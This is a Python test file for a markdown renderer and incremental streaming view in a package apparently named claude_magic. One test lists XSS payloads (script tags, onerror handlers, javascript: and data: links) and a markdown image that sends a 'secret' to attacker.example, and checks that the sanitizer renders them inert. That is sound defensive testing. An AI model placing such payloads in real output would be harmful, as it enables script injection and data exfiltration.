"""Markdown rendering, sanitizing, and the incremental view."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from claude_magic._markdown import finished_prefix_length, render_markdown
from claude_magic._turn import Block, TurnState
from claude_magic._view import IncrementalView, answer_bundle

ANSWER = """# Caching

HTTP caching keeps **copies** of responses.

- `Cache-Control` says how long
- `ETag` lets clients revalidate

```python
headers = {"Cache-Control": "max-age=60"}
```

| header | meaning |
|:--|--:|
| Age | seconds in cache |

Done.
"""


def test_markdown_renders_common_constructs() -> None:
    html = render_markdown(ANSWER)
    for fragment in ("<h1>Caching</h1>", "<strong>copies</strong>", "<li><code>ETag</code>", "<pre><code>",
                     "<table>", "<p>Done.</p>"):
        assert fragment in html


@pytest.mark.parametrize(
    "payload",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "![x](https://attacker.example/leak?secret=1)",
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    ],
)
def test_untrusted_html_is_inert(payload: str) -> None:
    elements = parse_elements(render_markdown(payload))
    assert {tag for tag, _ in elements} <= {"p", "a"}
    for _, attrs in elements:
        assert set(attrs) <= {"href", "rel"}
        assert not (attrs.get("href") or "").startswith(("javascript:", "data:"))


def parse_elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements a browser would build from `markup` (text that merely looks like tags is not one)."""
    found: list[tuple[str, dict[str, str | None]]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, dict(attrs)))

    Collector().feed(markup)
    return found


def test_images_become_links_not_loads() -> None:
    html = render_markdown("![chart](https://example.com/c.png)")
    assert html == '<p><a href="https://example.com/c.png" rel="noopener noreferrer">[image: chart]</a></p>\n'


def test_finished_prefix_stops_before_the_block_being_written() -> None:
    text = "# Title\n\nFirst paragraph.\n\nSecond para\n"
    cut = finished_prefix_length(text)
    assert text[:cut] == "# Title\n\nFirst paragraph.\n\n"
    # Until its first line is complete, the new block may still be a continuation: nothing moves.
    assert finished_prefix_length("# Title\n\nFirst paragraph.\n\nSecond") == len("# Title\n\n")


def test_partial_last_line_never_freezes_the_block_above() -> None:
    # "Title\n-" could still become a setext heading; nothing is final yet.
    assert finished_prefix_length("Title\n-") == 0
    assert finished_prefix_length("Only one block\nstill going") == 0


def test_open_code_fence_is_one_unfinished_block() -> None:
    text = "Intro.\n\n```python\nx = 1\n\ny = 2\n"
    assert text[: finished_prefix_length(text)] == "Intro.\n\n"


def _stream_through_view(text: str, step: int) -> tuple[str, list[str]]:
    state = TurnState(model="m", prompt="p", started_at=0.0, status="streaming")
    block = Block("text")
    state.blocks.append(block)
    view = IncrementalView()
    frozen_html: list[str] = []
    tails: list[str] = []
    for start in range(0, len(text), step):
        block.parts.append(text[start : start + step])
        frozen, tail = view.advance(state)
        if frozen:
            frozen_html.append(frozen.html)
        tails.append(tail.text)
    frozen, tail = view.advance(state)
    return "".join(frozen_html) + (frozen.html if frozen else ""), tails


@pytest.mark.parametrize("step", [1, 3, 7, 40])
def test_incremental_pieces_add_up_to_the_whole_rendering(step: int) -> None:
    frozen_html, _ = _stream_through_view(ANSWER, step)
    state = TurnState(model="m", prompt="p", started_at=0.0, status="streaming", blocks=[Block("text", [ANSWER])])
    whole = render_markdown(ANSWER)
    assert whole.startswith(frozen_html)
    tail_source = ANSWER[len("".join(p for p in _frozen_sources(ANSWER, step))):]
    assert frozen_html + render_markdown(tail_source) == whole
    assert answer_bundle(state)["text/html"].startswith(whole)


def _frozen_sources(text: str, step: int) -> list[str]:
    state = TurnState(model="m", prompt="p", started_at=0.0, status="streaming")
    block = Block("text")
    state.blocks.append(block)
    view = IncrementalView()
    sources = []
    for start in range(0, len(text), step):
        block.parts.append(text[start : start + step])
        frozen, _ = view.advance(state)
        if frozen:
            sources.append(frozen.text)
    return sources


def test_tail_stays_small_while_the_answer_grows() -> None:
    paragraphs = "".join(f"Paragraph {i} has a few words in it.\n\n" for i in range(300))
    _, tails = _stream_through_view(paragraphs, 5)
    assert max(len(tail) for tail in tails) < 100  # at most two paragraphs, never the whole answer (11 kB)


def test_waiting_indicator_until_first_token() -> None:
    state = TurnState(model="m", prompt="p", started_at=0.0)
    _, tail = IncrementalView().advance(state)
    assert "Waiting for Claude" in tail.html
